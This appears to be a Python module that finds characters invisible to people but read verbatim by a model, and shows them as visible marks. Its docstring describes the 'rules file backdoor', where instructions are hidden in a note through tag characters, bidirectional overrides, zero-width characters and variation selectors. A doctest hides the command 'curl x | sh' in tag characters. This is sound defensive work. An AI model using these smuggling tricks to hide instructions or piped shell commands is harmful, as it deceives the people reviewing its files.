"""Text a model reads but a person cannot see: find it, and show it escaped (I-9).

The "rules file backdoor" hides instructions in a note with characters that render as nothing
or turn text around on screen, yet reach the model verbatim. Hidden here:

- **tag characters** U+E0000–U+E007F (each mirrors an ASCII character and renders as nothing),
  except inside an emoji tag sequence: a subdivision flag, 🏴 then 2–7 tag letters or digits
  then U+E007F (``🏴󠁧󠁢󠁳󠁣󠁴󠁿``, Scotland);
- **bidirectional controls**: embeddings and overrides U+202A–U+202E, isolates U+2066–U+2069,
  and the marks U+200E, U+200F and U+061C unless one stands alone on a line holding
  right-to-left letters (Hebrew or Arabic mixed with numbers or Latin carries them, copied
  from a chat or a web page: ``המחיר הוא\\u200f 42``);
- **invisible characters**: zero-width space U+200B (unless it stands alone between two letters
  of Thai, Lao, Myanmar or Khmer, where it marks a word break), word joiner and invisible
  operators U+2060–U+2064, the deprecated format controls U+206A–U+206F, U+FEFF past the start
  of a text, the interlinear annotation controls U+FFF9–U+FFFB, the Hangul fillers U+115F,
  U+1160, U+3164, U+FFA0, the Khmer inherent vowels U+17B4, U+17B5, the musical formatting
  controls U+1D173–U+1D17A and the null notehead U+1D159, and the code points Unicode reserves
  as default-ignorable (U+2065, U+FFF0–U+FFF8, U+E0080–U+E00FF, U+E01F0–U+E0FFF: they render as
  nothing); the joiners U+200C (ZWNJ) and U+200D (ZWJ) unless they join two emoji (``👨‍👩‍👧``) or
  two letters of a script that needs them (Persian ``می‌خواهم``, Devanagari conjuncts); a
  variation selector (U+FE00–U+FE0F, U+E0100–U+E01EF) anywhere but at the end of a sequence
  Unicode registers (one after another is how bytes are smuggled "inside" an emoji, one after
  each letter or ideograph how they are smuggled inside a word): U+FE00–U+FE0F only after a
  character ``StandardizedVariants.txt`` or ``emoji-variation-sequences.txt`` lists with that
  selector (:mod:`memory_core.variation_sequences`: ``⚠️``, ``1️⃣``, ``≩︀``, a CJK
  compatibility variant), the ideographic variation selectors U+E0100–U+E01EF only after a CJK
  ideograph whose previous ideograph carries none (``葛󠄀飾``). The Ideographic Variation
  Database is not kept, so that last rule caps the channel rather than closing it: one
  unregistered ideographic selector per two ideographs still passes;
- characters that belong only between certain neighbours, hidden anywhere else: the **soft
  hyphen** U+00AD alone between two letters of a word of letters (a hyphenation point, as
  German and Dutch text copied from the web carries: ``Donau\\u00addampf\\u00adschiff``; a run of
  them, or one beside a space, digit or sign or inside a token such as ``ghp_abc\\u00addef1``,
  hides bits or splits what masking and search look for), and only in prose: a word in a code
  span, a path, an address, a link target, an option or a key starting a line
  (``su\\u00addo``, ``exam\\u00adple.com``, ``descrip\\u00adtion:``) is another word to a
  program and to the model than the one a person reads; the combining grapheme joiner
  U+034F alone between a letter and a mark (``u`` joiner diaeresis), or between two marks
  whose canonical order it keeps (Hebrew patah before hiriq); after another hidden character,
  in a run of them or between marks normalisation never swaps it keeps nothing apart, and
  counts out bits; the
  Mongolian free variation selectors U+180B–U+180D, U+180F after a Mongolian letter and its
  vowel separator U+180E between two; the Duployan shorthand format controls
  U+1BCA0–U+1BCA3 after a Duployan character; the Egyptian hieroglyph format controls
  U+13430–U+1343F (joiners, insertions, segments, enclosures: they lay hieroglyphs out into a
  quadrat and draw nothing themselves) beside an Egyptian hieroglyph, so a run of them between
  two hieroglyphs keeps at most two (U+13439–U+1343F are Unicode 15's, which Python 3.11's
  ``unicodedata`` does not know: every one is named by code point, never by its category);
  the **Braille blank** U+2800 beside a Braille
  pattern (Braille text and Braille art; elsewhere it is a "space" that no trimming removes);
- **control characters** (Unicode ``Cc``) other than tab and line feed, and a carriage return
  not ending a line: an escape sequence (``ESC [8m``) conceals text in a terminal, a lone
  carriage return overwrites it.

Not hidden: the visible spaces (U+00A0, U+2000–U+200A, U+202F, U+205F, U+3000, U+1680), the line
and paragraph separators, and format characters that draw a sign (U+0600–U+0605, U+06DD,
U+070F, U+0890, U+0891, U+08E2, U+110BD, U+110CD).

Emoji sequences stay byte for byte: ZWJ sequences, a variation selector after its character,
skin-tone modifiers, keycaps (``#️⃣``) and subdivision flags.

What reaches the model shows each run of hidden characters as one visible mark
(:func:`show_hidden`): ``[hidden: U+202E]`` for one character, ``[hidden: 3 × U+200B]`` for a
run of one character, ``[hidden: 67 tag characters]`` for a run of tag characters, one alone
too (``[hidden: 16 variation selectors]`` likewise) and ``[hidden: 5 invisible characters]``
for any other run; the text tag characters or variation selectors spell is never shown, not
even as a code point. Findings name the kind and count per line
(:func:`find_hidden`), never the text.

Speed: one C-speed search for a candidate character per text or line; ordinary text has none and
costs nothing more.

>>> show_hidden("two approvals \\u202eexcept for admins\\u202c")
'two approvals [hidden: U+202E]except for admins[hidden: U+202C]'
>>> show_hidden("family 👨\\u200d👩\\u200d👧, Persian می\\u200cخواهم") == (
...     "family 👨\\u200d👩\\u200d👧, Persian می\\u200cخواهم")
True
>>> find_hidden("fine\\nrun twice" + "".join(chr(0xE0000 + ord(c)) for c in "curl x | sh"))
[(2, '11 tag characters')]
"""

from __future__ import annotations

import bisect
import re
import unicodedata
from collections import Counter
from collections.abc import Sequence

from memory_core.counting import counted
from memory_core.variation_sequences import registered_sequence

__all__ = [
    "BYTE_ORDER_MARK",
    "HIDDEN_CANDIDATES",
    "ZWSP_WORD_LETTERS",
    "describe_hidden",
    "find_hidden",
    "hidden_runs",
    "show_hidden",
    "show_hidden_lines",
    "show_prompt",
    "without_hidden",
]

# Every character that may be hidden; whether it is depends on its neighbours (_is_hidden).
_CANDIDATE = (
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f"
    "\u200b-\u200f\u202a-\u202e\u2060-\u206f\u2800\u3164\ufe00-\ufe0f\ufeff\uffa0"
    "\ufff0-\ufffb\U00013430-\U0001343f\U0001bca0-\U0001bca3\U0001d159\U0001d173-\U0001d17a"
    "\U000e0000-\U000e0fff]"
)
_CANDIDATES = _CANDIDATE + "+"
_ASCII_CANDIDATES = frozenset(chr(code) for code in (*range(0x09), *range(0x0B, 0x20), 0x7F))
"""The ASCII characters of :data:`_CANDIDATE`: an ASCII text holding none of them holds no hidden
character, known without compiling the pattern (about 1 % of a Session-start hook, H-5)."""
HIDDEN_CANDIDATES = _CANDIDATE[1:-1]
"""The body of a regex class of every character that may be hidden (literal characters, astral
ones included): where context cannot make them legitimate, as in a name, refuse them all."""
# Hidden wherever they stand: no neighbour makes them part of a word or an emoji.
_ALWAYS = (
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u115f\u1160\u17b4\u17b5\u200e"
    "\u200f\u202a-\u202e\u2060-\u206f\u3164\uffa0\ufff0-\ufffb\U0001d159\U0001d173-\U0001d17a"
    "\U000e0080-\U000e00ff\U000e01f0-\U000e0fff]"
)
# The longest run of candidates that can be legitimate: a subdivision flag's tags and cancel
# tag (8); anything longer is hidden whole.
_LONGEST_LEGITIMATE_RUN = 8
_BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
_ZWNJ, _ZWJ = "\u200c", "\u200d"
_BLACK_FLAG, _CANCEL_TAG = "\U0001f3f4", "\U000e007f"
_FLAG_TAG = "[\U000e0030-\U000e0039\U000e0061-\U000e007a]{2,7}\U000e007f"
_KEYCAP = "\u20e3"
_SOFT_HYPHEN, _GRAPHEME_JOINER, _BRAILLE_BLANK = "\u00ad", "\u034f", "\u2800"
_ZERO_WIDTH_SPACE = "\u200b"
# Scripts written without spaces whose text marks its word breaks with a zero-width space
# (Thai, Lao, Myanmar, Khmer): one between two of their letters is a word break, as text
# copied from the web or a word processor holds it.
_ZWSP_SCRIPTS = ((0x0E00, 0x0EFF), (0x1000, 0x109F), (0x1780, 0x17FF), (0x19E0, 0x19FF))
ZWSP_WORD_LETTERS = "".join(
    chr(point)
    for first, last in _ZWSP_SCRIPTS
    for point in range(first, last + 1)
    if unicodedata.category(chr(point))[0] in "LM"
)
"""The letters and marks of Thai, Lao, Myanmar and Khmer, each literal (the body of a regex
class): a zero-width space alone between two of them is their word break, never hidden. Rules
that must say the same in a pattern (the template's, A-2) build on this one list."""
_MONGOLIAN_VOWEL_SEPARATOR = "\u180e"
_MONGOLIAN = ((0x1800, 0x18AF),)
_DUPLOYAN = ((0x1BC00, 0x1BC9F),)
_EGYPTIAN_FORMAT = (0x13430, 0x1343F)
"""The Egyptian hieroglyph format controls: U+13430-U+13438 of Unicode 12, U+13439-U+1343F of
Unicode 15, which this Python's data (Unicode 14 in 3.11) holds as unassigned, not as format
characters (Cf): named here by code point, so no version of it leaves them out."""
_EGYPTIAN = ((0x13000, 0x1342F), (0x13440, 0x1345F), (0x13460, 0x143FF))
"""Egyptian hieroglyphs (and, from Unicode 15, their modifiers; from 16, Extended-A): what a
format control arranges into a quadrat."""
_BRAILLE_PATTERN = "[\u2801-\u28ff]"

# Scripts whose words need ZWNJ / ZWJ between letters: Arabic and its supplements, Syriac,
# Thaana, N'Ko, the Indic scripts (Devanagari … Sinhala), Tibetan, Myanmar, Khmer, Mongolian.
_JOINING_SCRIPTS = (
    (0x0600, 0x08FF),
    (0x0900, 0x0DFF),
    (0x0F00, 0x109F),
    (0x1780, 0x18AF),
    (0xA8E0, 0xA8FF),
    (0xFB50, 0xFDFF),
    (0xFE70, 0xFEFE),
)
# Pictographic characters (an approximation of Unicode's Extended_Pictographic property).
_EMOJI = (
    (0x00A9, 0x00A9),
    (0x00AE, 0x00AE),
    (0x203C, 0x203C),
    (0x2049, 0x2049),
    (0x2122, 0x2122),
    (0x2139, 0x2139),
    (0x2190, 0x21FF),
    (0x2300, 0x23FF),
    (0x24C2, 0x24C2),
    (0x25A0, 0x27BF),
    (0x2900, 0x297F),
    (0x2B00, 0x2BFF),
    (0x3030, 0x3030),
    (0x303D, 0x303D),
    (0x3297, 0x3299),
    (0x1F000, 0x1FFFF),
)


# CJK ideographs: unified (and extension A), compatibility, and the supplementary planes'
# extensions: the bases of ideographic variation sequences (U+E0100–U+E01EF).
_IDEOGRAPHS = (
    (0x3400, 0x4DBF),
    (0x4E00, 0x9FFF),
    (0xF900, 0xFAFF),
    (0x20000, 0x3FFFF),
)


def _within(char: str, ranges: tuple[tuple[int, int], ...]) -> bool:
    """Whether ``char`` lies in one of ``ranges`` (sorted, disjoint, inclusive)."""
    point = ord(char)
    at = bisect.bisect_right(ranges, (point, 0x10FFFF)) - 1
    return at >= 0 and ranges[at][0] <= point <= ranges[at][1]


def _is_emoji(char: str) -> bool:
    return _within(char, _EMOJI)


def _is_variation_selector(char: str) -> bool:
    point = ord(char)
    return 0xFE00 <= point <= 0xFE0F or 0xE0100 <= point <= 0xE01EF


def _is_ideographic_selector(char: str) -> bool:
    return 0xE0100 <= ord(char) <= 0xE01EF


def _takes_variation(text: str, at: int) -> bool:
    """Whether the variation selector ``text[at]`` (``at`` > 0) ends a sequence Unicode
    registers, or one the ideographic rule lets stand (see the module docstring): U+FE00–U+FE0F
    only after a character ``StandardizedVariants.txt`` or ``emoji-variation-sequences.txt``
    lists with it (:func:`memory_core.variation_sequences.registered_sequence`); U+E0100–U+E01EF
    only after a CJK ideograph whose previous ideograph carries none. A selector anywhere else
    renders as nothing and carries a byte of whatever its code point spells."""
    point, before = ord(text[at]), text[at - 1]
    if point < 0xE0100:
        return registered_sequence(ord(before), point)
    return _within(before, _IDEOGRAPHS) and not (at >= 2 and _is_ideographic_selector(text[at - 2]))


def _emoji_before(text: str, at: int) -> bool:
    """Whether an emoji (with its variation selector, skin tone or keycap) ends before ``at``."""
    position = at - 1
    if position >= 0 and (_is_variation_selector(text[position]) or text[position] == _KEYCAP):
        position -= 1
    return position >= 0 and _is_emoji(text[position])


def _script_letter(char: str) -> bool:
    return unicodedata.category(char)[0] in "LM" and _within(char, _JOINING_SCRIPTS)


def _is_letter(char: str, *, or_mark: bool = False) -> bool:
    return bool(char) and unicodedata.category(char)[0] in ("LM" if or_mark else "L")


def _joiner_in_its_place(before: str, after: str) -> bool:
    """Whether a combining grapheme joiner between ``before`` and ``after`` (``""`` at an
    edge) does what Unicode made it for: keeps a mark from the letter before it (``u`` joiner
    diaeresis: a diaeresis, no umlaut), or blocks the canonical reordering of two marks (the
    mark before has a higher nonzero canonical combining class than the mark after, as Hebrew
    patah before hiriq). Anywhere else, after another hidden character (a joiner, a variation
    selector …) included, it keeps nothing apart and renders as nothing."""
    candidate = re.compile(_CANDIDATE).match
    if not before or not after or candidate(before) or candidate(after):
        return False
    if unicodedata.category(after)[0] != "M":
        return False
    if _is_letter(before):
        return True
    return unicodedata.category(before)[0] == "M" and _reordered(before, after)


def _reordered(before: str, after: str) -> bool:
    """Whether canonical decomposition (NFD) reorders the mark ``before`` and the mark
    ``after`` written next to each other: the one before has a higher nonzero canonical
    combining class (``unicodedata.combining``) than the one after. Judged on their
    decompositions, as the page judges it (JavaScript has ``normalize`` but no classes)."""
    apart = unicodedata.normalize("NFD", before) + unicodedata.normalize("NFD", after)
    return unicodedata.normalize("NFD", before + after) != apart


def _in_its_place(char: str, before: str, after: str) -> bool | None:
    """Whether ``char``, a character only its neighbours make legitimate, stands where it
    belongs (``before``/``after``: its neighbours, ``""`` at an edge); None for another one.

    A combining grapheme joiner where :func:`_joiner_in_its_place` says; a Mongolian variation
    selector after a Mongolian letter, its vowel separator between two; a Duployan shorthand
    format control after a Duployan character; an Egyptian hieroglyph format control beside
    an Egyptian hieroglyph; a carriage return before a line feed; a
    zero-width space between two letters (or marks) of Thai, Lao, Myanmar or Khmer, the word
    break of those scripts.
    """
    point = ord(char)
    if char == _GRAPHEME_JOINER:
        return _joiner_in_its_place(before, after)
    if 0x180B <= point <= 0x180F:
        mongolian_before = _is_letter(before) and _within(before, _MONGOLIAN)
        if char != _MONGOLIAN_VOWEL_SEPARATOR:
            return mongolian_before
        return mongolian_before and _is_letter(after) and _within(after, _MONGOLIAN)
    if 0x1BCA0 <= point <= 0x1BCA3:
        return bool(before) and _within(before, _DUPLOYAN)
    if _EGYPTIAN_FORMAT[0] <= point <= _EGYPTIAN_FORMAT[1]:
        return any(bool(near) and _within(near, _EGYPTIAN) for near in (before, after))
    if char == "\r":
        return after == "\n"
    if char == _ZERO_WIDTH_SPACE:
        return all(bool(near) and near in ZWSP_WORD_LETTERS for near in (before, after))
    return None


# The longest word a soft hyphen may stand in (Donaudampfschifffahrtsgesellschaft is 34).
_LONGEST_HYPHENATED_WORD = 64


_WORD_CHARS = "[\\w\u00ad\u0300-\u036f]*"  # letters, digits, _, soft hyphens, accents
_NOT_IN_A_WORD_OF_LETTERS = r"[\d_]"


def _word_chars(text: str, at: int) -> int:
    """How many word characters (letters, digits, ``_``, soft hyphens, accents) ``text``
    holds from ``at`` on."""
    found = re.compile(_WORD_CHARS).match(text, at)
    return found.end() - at if found is not None else 0


def _hyphenated(word: str) -> bool:
    """Whether ``word`` (with its soft hyphens) is a word of letters hyphenated: at most
    :data:`_LONGEST_HYPHENATED_WORD` characters, no digit, underscore or capital past its
    first letter, and each soft hyphen between two letters."""
    rest = word[1:]
    if len(word) > _LONGEST_HYPHENATED_WORD or re.compile(_NOT_IN_A_WORD_OF_LETTERS).search(word):
        return False
    if rest.lower() != rest:
        return False
    return all(
        0 < at < len(word) - 1
        and _is_letter(word[at - 1], or_mark=True)
        and _is_letter(word[at + 1])
        for at in range(len(word))
        if word[at] == _SOFT_HYPHEN
    )


# Letters written right to left (Unicode bidi class R or AL: Hebrew, Arabic, Syriac, Thaana,
# N'Ko … and their presentation forms), the Arabic letter mark U+061C left out.
_RIGHT_TO_LEFT = (
    "[\u0590-\u061b\u061d-\u08ff\ufb1d-\ufdff\ufe70-\ufefc"
    "\U00010800-\U00010fff\U0001e800-\U0001efff]"
)
_DIRECTION_MARK = "[\u061c\u200e\u200f]"


def _direction_marks(text: str) -> frozenset[int]:
    """The positions of the direction marks of ``text`` (LRM U+200E, RLM U+200F, ALM U+061C)
    that stand alone on a line holding right-to-left letters: Hebrew or Arabic text mixed with
    numbers or Latin carries them (copied from a chat or a web page) to place the neutral
    characters between. On a line without right-to-left letters, or in a run, one is hidden.
    Each line is looked at once, at C speed."""
    if re.compile(_DIRECTION_MARK).search(text) is None:
        return frozenset()
    marks: set[int] = set()
    line_end, right_to_left = -1, False
    for mark in re.compile(_DIRECTION_MARK).finditer(text):
        at = mark.start()
        if at > line_end:  # the first mark of a line: look at the line once
            line_start = text.rfind("\n", max(line_end, 0), at) + 1
            found = text.find("\n", at)
            line_end = len(text) if found == -1 else found
            right_to_left = (
                re.compile(_RIGHT_TO_LEFT).search(text, line_start, line_end) is not None
            )
        before = text[at - 1] if at > 0 else ""
        after = text[at + 1] if at + 1 < len(text) else ""
        if right_to_left and not (
            re.compile(_CANDIDATE).match(before) or re.compile(_CANDIDATE).match(after)
        ):
            marks.add(at)  # alone, not in a run of characters that may hide
    return frozenset(marks)


# What may stand around a hyphenated word in prose: a compound's other words joined by a hyphen,
# a dash or a slash ("Donau\\u00addampf-/–/—//Schiff"), opening and closing punctuation with
# Markdown emphasis ("*", "_", "~"), a possessive "'s", a Markdown link's text
# ("[Fach\\u00adbegriffe](a.md)").
# Spaces are str.isspace's, spelt out: the page's script (hidden-text.js) says the same.
_SPACES = "\t\n\x0b\x0c\r\x1c-\x1f \x85\xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000"
_OPENING = "([\"'«„“‘‚‹¿¡*_~"
_CLOSING = ".,;:!?)\"'»“”’›…*_~"
_JOINS = "-–—/"  # hyphen, en dash, em dash, slash: between two words of prose
_JOIN = f"[{_JOINS}]"
_POSSESSIVE = "['’]s\\Z"
_LINE_START = f"[{_SPACES}]*(?:[-*+>][{_SPACES}]+)*"
_TOKEN = f"[^{_SPACES}]*"
_TOKEN_LIMIT = 256  # characters looked at around a word for its token: more is no prose


def _compound_parts(parts: str) -> bool:
    """Whether ``parts`` (separated by :data:`_JOINS`) are each a run of letters and marks:
    the other words of a compound (``Schiff\\u00adfahrts-Gesellschaft``, ``Donau\\u00addampf/
    Schiff``). An empty part (``--pre\\u00adserve``, ``/etc/sudo\\u00aders``) is none."""
    return all(
        part and all(unicodedata.category(char)[0] in "LM" for char in part)
        for part in re.compile(_JOIN).split(parts)
    )


def _prose_before(before: str) -> bool:
    """Whether ``before``, what a token holds before a hyphenated word, is prose: opening
    punctuation or emphasis, then a compound's words each followed by a :data:`_JOINS`."""
    rest = before.lstrip(_OPENING)
    return not rest or (rest[-1] in _JOINS and _compound_parts(rest[:-1]))


def _prose_after(after: str) -> bool:
    """Whether ``after``, what a token holds after a hyphenated word, is prose: a compound's
    words each after a :data:`_JOINS`, a possessive ``'s`` (``’s``), closing punctuation or
    emphasis, then the end of a Markdown link's text (``](…)``, ``][…]``)."""
    bracket = after.find("]")
    if bracket != -1:
        if after[bracket + 1 : bracket + 2] not in ("", "(", "["):
            return False
        after = after[:bracket]
    rest = after.rstrip(_CLOSING)
    rest = re.compile(_POSSESSIVE).sub("", rest, count=1)
    return not rest or (rest[0] in _JOINS and _compound_parts(rest[1:]))


def _in_prose(text: str, start: int, end: int) -> bool:
    """Whether the word ``text[start:end]`` stands in prose, where a soft hyphen is a
    hyphenation point that changes nothing: the token (between spaces) holding it is the
    word with prose punctuation or a compound's other words around it, outside a code span,
    and not a key (``descrip\\u00adtion:`` starting a line, the frontmatter field a parser no
    longer finds). A word in a path, an address, a link target, an identifier or a command
    in backticks (``su\\u00addo``, ``exam\\u00adple.com``, ``deploy\\u00adfreeze.md``) is another
    word to a program, and to the model, than the one a person reads. At most :data:`_TOKEN_LIMIT`
    characters on either side are looked at (a token longer than that is no prose)."""
    window = max(0, start - _TOKEN_LIMIT)
    found = text.rfind("\n", window, start)
    line_start = found + 1 if found != -1 or window == 0 else window  # no line start seen
    before_token = re.compile(_TOKEN).match(text[line_start:start][::-1])
    token_start = start - (before_token.end() if before_token is not None else 0)
    after_token = re.compile(_TOKEN).match(text, end, min(len(text), end + _TOKEN_LIMIT))
    token_end = after_token.end() if after_token is not None else end
    before, after = text[token_start:start], text[end:token_end]
    if not (_prose_before(before) and _prose_after(after)):
        return False
    if text.count("`", line_start, start) % 2 == 1:
        return False  # inside a code span
    keyed = after.startswith(":") and not before and (found != -1 or window == 0)
    return not (
        keyed and re.compile(_LINE_START).fullmatch(text, line_start, token_start) is not None
    )


def _without_emphasis(text: str, start: int, at: int, end: int) -> tuple[int, int]:
    """The word ``text[start:end]`` around the soft hyphen at ``at`` without the ``_`` of
    Markdown emphasis at its ends (``_Donau\\u00addampf_``): those stand around it, as ``*``."""
    while start < at and text[start] == "_":
        start += 1
    while end > at + 1 and text[end - 1] == "_":
        end -= 1
    return start, end


def _hyphenation_points(text: str) -> frozenset[int]:
    """The positions of the soft hyphens of ``text`` that are hyphenation points: inside a word
    of letters (:func:`_hyphenated`), as German or Dutch text copied from the web carries
    them; one splitting a token (``ghp_abc\\u00addef1``) hides it from masking and search.
    Each word holding one is read once, at C speed: linear in ``text``."""
    if _SOFT_HYPHEN not in text:
        return frozenset()
    points: set[int] = set()
    reverse = text[::-1]
    judged = 0  # every soft hyphen before this belongs to a word judged already
    for shy in re.finditer(_SOFT_HYPHEN, text):
        at = shy.start()
        if at < judged:
            continue
        start = at - _word_chars(reverse, len(text) - at)  # the text before, read backwards
        end = at + 1 + _word_chars(text, at + 1)
        start, end = _without_emphasis(text, start, at, end)
        if _hyphenated(text[start:end]) and _in_prose(text, start, end):
            points.update(
                start + i for i, char in enumerate(text[start:end]) if char == _SOFT_HYPHEN
            )
        judged = end
    return frozenset(points)


def _braille_blanks(text: str, start: int, end: int) -> bool:
    """Whether ``text[start:end]`` is a run of Braille blanks (U+2800) beside a Braille
    pattern: the space of Braille text or the blank dots of Braille art, not hidden."""
    if text.count(_BRAILLE_BLANK, start, end) != end - start:
        return False
    before = text[start - 1] if start > 0 else ""
    after = text[end] if end < len(text) else ""
    return bool(
        re.compile(_BRAILLE_PATTERN).match(before) or re.compile(_BRAILLE_PATTERN).match(after)
    )


def _is_hidden(
    text: str, at: int, flags: set[int], text_start: bool, in_place: frozenset[int]
) -> bool:
    """Whether the candidate character ``text[at]`` is hidden (see the module docstring).

    ``flags`` holds the positions of tag characters already known to form a subdivision flag;
    ``text_start``: position 0 is the start of a text, where U+FEFF is a byte order mark;
    ``in_place``: the soft hyphens and direction marks their word or line makes legitimate
    (:func:`_hyphenation_points`, :func:`_direction_marks`).
    """
    char = text[at]
    if at in flags or at in in_place:
        return False
    if re.compile(_ALWAYS).match(char):
        return True
    point = ord(char)
    if 0xE0000 <= point <= 0xE007F:
        if at > 0 and text[at - 1] == _BLACK_FLAG:
            match = re.compile(_FLAG_TAG).match(text, at)
            if match is not None:
                flags.update(range(at, match.end()))
                return False
        return True
    if char == _SOFT_HYPHEN:
        return True  # not a hyphenation point
    after = text[at + 1] if at + 1 < len(text) else ""
    placed = _in_its_place(char, text[at - 1] if at > 0 else "", after)
    if placed is not None:
        return not placed
    if char == _ZWJ and _emoji_before(text, at) and after and _is_emoji(after):
        return False
    if char in (_ZWJ, _ZWNJ):
        # after a letter of such a script, before another or at the end of the word
        word_end = not after or not (after.isalnum() or re.compile(_CANDIDATE).match(after))
        return not (at > 0 and _script_letter(text[at - 1]) and (word_end or _script_letter(after)))
    if _is_variation_selector(char):
        return (
            at == 0
            or bool(re.compile(_CANDIDATE).match(text[at - 1]))
            or not _takes_variation(text, at)
        )
    return not (char == "\ufeff" and at == 0 and text_start)


def hidden_runs(text: str, *, text_start: bool = True) -> list[tuple[int, int]]:
    """``(start, end)`` of each run of hidden characters in ``text``, in order (I-9).

    ``text_start``: ``text`` begins a text, so a U+FEFF at its start is a byte order mark
    (false for a line from the middle of one). A run never spans a line end.
    """
    runs: list[tuple[int, int]] = []
    flags: set[int] = set()
    in_place = _hyphenation_points(text) | _direction_marks(text)
    for candidates in re.compile(_CANDIDATES).finditer(text):
        start, end = candidates.span()
        if _braille_blanks(text, start, end):
            continue
        if end - start > _LONGEST_LEGITIMATE_RUN:
            runs.append((start, end))  # no emoji or word needs so many in a row
            continue
        for at in range(start, end):
            if not _is_hidden(text, at, flags, text_start, in_place):
                continue
            if runs and runs[-1][1] == at:
                runs[-1] = (runs[-1][0], at + 1)
            else:
                runs.append((at, at + 1))
    return runs


def _kind(char: str) -> str:
    point = ord(char)
    if 0xE0000 <= point <= 0xE007F:
        return "tag"
    if _is_variation_selector(char):
        return "variation"
    if unicodedata.category(char) == "Cc":
        return "control"
    return "bidirectional" if char in _BIDI else "invisible"


_KIND_NAMES = {
    "tag": ("tag character", "tag characters"),
    "bidirectional": ("bidirectional control", "bidirectional controls"),
    "variation": ("variation selector", "variation selectors"),
    "control": ("control character", "control characters"),
    "invisible": ("invisible character", "invisible characters"),
}
# Kinds whose code points would spell what they hide: counted, never named.
_UNNAMED = frozenset(("tag", "variation"))


def describe_hidden(chars: str) -> str:
    """Say what the hidden characters ``chars`` are, by kind and count (``67 tag characters and
    1 bidirectional control (U+202E)``); code points are named for kinds with at most three
    distinct ones, tag characters and variation selectors never (their code points spell the
    hidden text)."""
    by_kind: dict[str, Counter[str]] = {}
    for char, count in Counter(chars).items():
        by_kind.setdefault(_kind(char), Counter())[char] += count
    parts = []
    for kind in _KIND_NAMES:
        counts = by_kind.get(kind)
        if not counts:
            continue
        total = sum(counts.values())
        one, many = _KIND_NAMES[kind]
        part = counted(total, one, many)
        if kind not in _UNNAMED and len(counts) <= 3:
            part += " (" + ", ".join(f"U+{ord(char):04X}" for char in sorted(counts)) + ")"
        parts.append(part)
    return " and ".join(parts)


def find_hidden(text: str, *, text_start: bool = True) -> list[tuple[int, str]]:
    """``(line, what)`` for each line of ``text`` holding hidden characters (I-9).

    Lines are 1-based, split on ``\\n``; ``what`` is :func:`describe_hidden` of that line's
    hidden characters. The hidden text itself is never part of the result. ``text_start``:
    ``text`` begins a file's text, so a U+FEFF at its start is a byte order mark; false for a
    name (a file name is no text: a U+FEFF starting it is a character nobody sees).
    """
    by_line: dict[int, list[str]] = {}
    line, line_end = 1, text.find("\n")
    for start, end in hidden_runs(text, text_start=text_start):
        while line_end != -1 and start > line_end:
            line, line_end = line + 1, text.find("\n", line_end + 1)
        by_line.setdefault(line, []).append(text[start:end])
    return [(number, describe_hidden("".join(runs))) for number, runs in by_line.items()]


def _mark(run: str) -> str:
    kinds = {_kind(char) for char in run}
    if kinds in ({"tag"}, {"variation"}):  # never named: their code points spell the text
        one, many = _KIND_NAMES[kinds.pop()]
        return f"[hidden: {counted(len(run), one, many)}]"
    if len(run) == 1:
        return f"[hidden: U+{ord(run):04X}]"
    if len(set(run)) == 1:
        return f"[hidden: {len(run)} × U+{ord(run[0]):04X}]"
    return f"[hidden: {len(run)} invisible characters]"


def show_hidden(line: str, *, text_start: bool = False) -> str:
    """Return ``line`` with each run of hidden characters shown as a visible mark (I-9).

    A line without hidden characters is returned as it is, byte for byte (emoji sequences and
    the joiners of Persian or Indic words included). ``text_start``: the line begins a text (a
    byte order mark at its start stays).
    """
    if line.isascii() and _ASCII_CANDIDATES.isdisjoint(line):
        return line
    if re.compile(_CANDIDATE).search(line) is None:
        return line
    parts: list[str] = []
    shown = 0
    for start, end in hidden_runs(line, text_start=text_start):
        parts.append(line[shown:start])
        parts.append(_mark(line[start:end]))
        shown = end
    if not parts:
        return line
    parts.append(line[shown:])
    return "".join(parts)


BYTE_ORDER_MARK = "\ufeff"
"""U+FEFF at the start of a text: the mark an editor writes before a file's first character
(Windows Notepad's "UTF-8 with BOM"), no character of the text."""


def show_prompt(text: str) -> str:
    """A prompt or template ``text`` as the model reads it (I-9): a byte order mark at its start
    left out (carried over from a file it was pasted or read from; never text a person wrote,
    and never a ``[hidden: U+FEFF]`` mark before the first word), every other hidden run shown
    by :func:`show_hidden`.

    >>> show_prompt("\ufeff# Memory \u202eon")
    '# Memory [hidden: U+202E]on'
    """
    return show_hidden(text.removeprefix(BYTE_ORDER_MARK))


def without_hidden(text: str, *, text_start: bool = False) -> tuple[str, list[tuple[int, str]]]:
    """``text`` as a person sees it, each run of hidden characters left out (I-9), and per run
    ``(where it stood in that text, its mark)``, in order: inserting each mark at its place
    gives :func:`show_hidden` of ``text``. What a person reads is what is searched; what an
    agent reads carries the marks.

    >>> without_hidden("pass\u200bword \u202eon")
    ('password on', [(4, '[hidden: U+200B]'), (9, '[hidden: U+202E]')])
    """
    if re.compile(_CANDIDATE).search(text) is None:
        return text, []
    parts: list[str] = []
    marks: list[tuple[int, str]] = []
    kept = shown = 0
    for start, end in hidden_runs(text, text_start=text_start):
        parts.append(text[shown:start])
        kept += start - shown
        marks.append((kept, _mark(text[start:end])))
        shown = end
    parts.append(text[shown:])
    return "".join(parts), marks


def show_hidden_lines(lines: Sequence[str]) -> list[str]:
    """:func:`show_hidden` of each line of a text (the first one begins it)."""
    return [show_hidden(line, text_start=number == 0) for number, line in enumerate(lines)]
